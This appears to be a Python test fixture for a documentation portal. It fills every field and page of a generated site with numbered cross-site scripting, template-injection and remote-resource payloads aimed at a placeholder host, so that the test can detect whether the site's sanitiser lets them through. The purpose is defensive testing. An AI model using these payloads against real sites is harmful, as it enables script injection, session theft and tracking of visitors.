"""A portal with poison in every field: what would run, load or break out, if any page took it for more than words.

Made from the portal of long words, so a new field of a noun is poisoned without anybody thinking of it: each text in it
becomes another poison, numbered, so that whatever runs or is asked for says where it came from.
"""

from __future__ import annotations

import json
import re
from itertools import count
from typing import TYPE_CHECKING, Final

from tests import long_words

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

HOST: Final = "fremd.example"
RAN: Final = "ran"
"""The property of ``window`` that a poison sets when it runs."""
_RUN: Final = "window.ran={n}"
_ASK: Final = f"https://{HOST}/{{n}}"

FIELDS: Final = (
    f"<script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"</title></head><body onload={_RUN}><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style></svg></template></textarea></noscript><script>{_RUN}</script>",
    f"<img src={_ASK}.png onerror={_RUN}>",
    f'" onmouseover="{_RUN}" onfocus="{_RUN}" autofocus tabindex="0" x="',
    f"' onanimationstart='{_RUN}' style='animation:x' x='",
    f"` onerror=`{_RUN}`",
    f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x /><image href={_ASK}.svg /></svg>",
    f"<svg><script href={_ASK}.js></script><use href={_ASK}.svg#a></use></svg>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>" src={_ASK}></iframe>',
    f"<details open ontoggle={_RUN}>x</details>",
    f"<link rel=stylesheet href={_ASK}.css><link rel=preload as=image href={_ASK}.png><link rel=prefetch href={_ASK}>",
    f"<style>@import '{_ASK}.css'; *{{background:url({_ASK}.png)}}</style>",
    f'" style="background:url({_ASK}.png)',
    f"<base href={_ASK}/><meta http-equiv=refresh content=0;url={_ASK}>",
    f"<video poster={_ASK}.png autoplay src={_ASK}.mp4></video><audio src={_ASK}.ogg autoplay></audio>",
    f"<object data={_ASK}></object><embed src={_ASK}><input type=image src={_ASK}.png><form action={_ASK}>",
    f"javascript:{_RUN}",
    "{{ 7*7 }}{{% for x in ().__class__.__base__.__subclasses__() %}}{{x}}{{% endfor %}}${{7*7}} #{{7*7}}",
    f'"}}];{_RUN};//',
    f"*/{_RUN}/*",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
    f"![x]({_ASK}.png) [x](javascript:{_RUN}) <https://{HOST}/{{n}}>",
    f"<math><mtext><table><mglyph><style><img src={_ASK}.png onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<noscript><p title='</noscript><img src={_ASK}.png onerror={_RUN}>'></noscript>",
    f"<a href=javascript:{_RUN}>x</a><area href=javascript:{_RUN}><button formaction=javascript:{_RUN}>",
    "@@root@@ %(x)s {x} $x \\1 %00 \\0",
)
"""For a single text; ``{n}`` is its number."""

BODIES: Final = (
    *FIELDS,
    f'<img src="/&#9;/{HOST}/{{n}}.png" alt="a">',
    f'<img src="&#1;{_ASK}.png" alt="a">',
    f'<img src="ht&#9;tps://{HOST}/{{n}}.png" alt="a">',
    f'<img src="/&#10;\\{HOST}/{{n}}.png" alt="a">',
    f'<img src="&#8;//{HOST}/{{n}}.png" alt="a">',
    f'<img src="\\\\{HOST}/{{n}}.png" alt="a" srcset="{_ASK}-2.png 2x">',
    f"![a](//{HOST}/{{n}}.png)",
    f"![a](/&#9;/{HOST}/{{n}}.png)",
    f"![a][b{{n}}]\n\n[b{{n}}]: {_ASK}.png",
    f"[a](java&#115;cript:{_RUN}) [b](&#106;avascript:{_RUN}) [c](\x01javascript:{_RUN})",
    f"[a][c{{n}}]\n\n[c{{n}}]: javascript:{_RUN}",
    f"<javascript:{_RUN}>",
    f'[a](b.md "x\\" onmouseover={_RUN} ")',
    f'![a](x.png){{onerror="{_RUN}" style="background:url({_ASK}.png)" srcset={_ASK}}}',
    f'# H {{ #hauptnavigation onclick="{_RUN}" }}',
    f'`x`{{.py onclick="{_RUN}"}}',
    f'```{{.py title="<img src={_ASK}.png onerror={_RUN}>"}}\nx\n```',
    f'!!! note "<img src={_ASK}.png onerror={_RUN}>"\n    <script>{_RUN}</script>',
    f'??? note "<script>{_RUN}</script>"\n    x',
    f'=== "<script>{_RUN}</script>"\n    x',
    f"*[HTML]: <img src={_ASK}.png onerror={_RUN}>\n\nHTML",
    f"[^{{n}}]\n\n[^{{n}}]: <script>{_RUN}</script>",
    f"| a |\n|---|\n| <img src={_ASK}.png onerror={_RUN}> |",
    f"<div\nonclick={_RUN}\n><p>x</p></div>",
    f"<p><svg><p><style><img src={_ASK}.png onerror={_RUN}></style>",
    f"<!-- --!><img src={_ASK}.png onerror={_RUN}> -->",
    f"<? ><script>{_RUN}</script> ?>",
    f"<![CDATA[><script>{_RUN}</script>]]>",
    f":material-bus:{{ onclick={_RUN} title='\"><script>{_RUN}</script>' }}",
    f'<span data-icon="material-bus" title="&quot;&gt;&lt;script&gt;{_RUN}&lt;/script&gt;" class="icon"></span>',
    f'<a href="{_ASK}" ping="{_ASK}" target=_blank download>x</a>',
    f'<td background="{_ASK}.png">x</td><blockquote cite="{_ASK}">x</blockquote>',
    f'--8<-- "{_ASK}"\n',
)
"""For a text of a sheet or page."""


def poison(number: int, among: tuple[str, ...] = FIELDS) -> str:
    """The poison for the place with this number."""
    return among[number % len(among)].replace("{n}", str(number))


def _dosed(path: str, text: str) -> str:
    """``text`` of the file ``path`` with a poison in the place of each long text."""
    numbers = count(sum(map(ord, path)))

    def field(_found: re.Match[str]) -> str:
        return json.dumps(poison(next(numbers)), ensure_ascii=False)[1:-1]

    def cell(_found: re.Match[str]) -> str:
        return '"' + poison(next(numbers)).replace('"', '""').replace("\n", " ") + '"'

    if path.endswith(".csv"):
        return re.sub(re.escape(long_words.TEXT), cell, text)
    front, mark, _ = text.rpartition("\n---\n") if path.endswith(".md") else (text, "", "")
    dosed = re.sub(re.escape(long_words.TEXT), field, front)
    if not mark:
        return dosed
    start = sum(map(ord, path))
    return dosed + mark + "\n\n".join(one.replace("{n}", str(start + at)) for at, one in enumerate(BODIES)) + "\n"


def files() -> Iterator[tuple[str, str]]:
    """Path and text of every file of the portal, without picture and film."""
    for path, text in long_words.files():
        if path != "mkdocs.yml":
            yield path, _dosed(path, text)
    yield "mkdocs.yml", _CONFIG


_CONFIG: Final = """site_name: x
site_url: https://muster.example/
docs_dir: content
theme: {name: strategieportal}
plugins:
  - strategieportal/reading
  # without a policy, which would stop what the wall has let through
  - strategieportal/pages: {policy_in_pages: false}
  - strategieportal/charts
  - strategieportal/search
  - strategieportal/exports
"""


def write(folder: Path) -> int:
    """Write the portal into ``folder``; how many poisons are in it."""
    doses = 0
    for path, text in files():
        file = folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, encoding="utf-8", newline="")
        doses += text.count(RAN) + text.count(HOST)
    long_words.illustrate(folder)
    return doses
